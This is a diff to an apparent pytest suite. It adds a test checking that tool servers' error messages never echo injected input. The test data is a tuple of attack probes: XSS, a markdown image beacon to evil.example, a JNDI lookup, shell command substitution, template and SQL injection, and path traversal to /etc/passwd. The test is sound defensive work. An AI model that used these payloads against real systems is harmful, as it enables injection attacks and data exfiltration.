@@ -7,6 +7,7 @@ import re
 import sqlite3
 import subprocess
 import sys
+from collections.abc import Mapping
 from contextlib import closing
 from pathlib import Path
 from typing import Any
@@ -102,6 +103,43 @@ def _plant(made: World) -> None:
         connection.execute("CREATE TABLE planted (text TEXT)")
         connection.executemany("INSERT INTO planted VALUES (?)", [(text,) for text in CORPUS])
         connection.commit()
+
+
+# -- a refusal repeats nothing that whoever shows it would act on
+
+_ACTIVE = (
+    "<script>alert(1)</script>", "![x](http://evil.example/leak)", "${jndi:ldap://evil/x}", "$(id)", "`id`",
+    "{{7*7}}", "'; DROP TABLE ships", "../../../etc/passwd",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("server", SERVERS)
+async def test_a_refusal_repeats_nothing_that_its_reader_would_act_on(tmp_path: Path, server: str) -> None:
+    async with world(tmp_path) as made:
+        settings = Settings.load(made.home, {})
+        async with (
+            running(made.services[server], settings, principal=OWNER) as host,
+            Client(host.server) as client,
+        ):
+            refused = 0
+            for tool in (await client.list_tools()).tools:
+                fields = tool.input_schema["properties"]
+                given = {name: _some(fields[name]) for name in tool.input_schema.get("required", [])}
+                for name in fields:
+                    for text in _ACTIVE:
+                        result = await client.call_tool(tool.name, {**given, name: text})
+                        if result.is_error:
+                            refused += 1
+                            said = json.dumps([result.structured_content, result.content[0].text])  # type: ignore[union-attr]
+                            assert text not in said and json.dumps(text)[1:-1] not in said, (tool.name, name)
+            assert refused > 100
+
+
+def _some(schema: Mapping[str, Any]) -> Any:
+    """A value that the schema allows."""
+    if "enum" in schema:
+        return schema["enum"][0]
+    return {"integer": 1, "array": [], "object": {}, "boolean": True}.get(schema.get("type", ""), "x")
 
 
 # -- what a kernel is told of the tools is ours alone
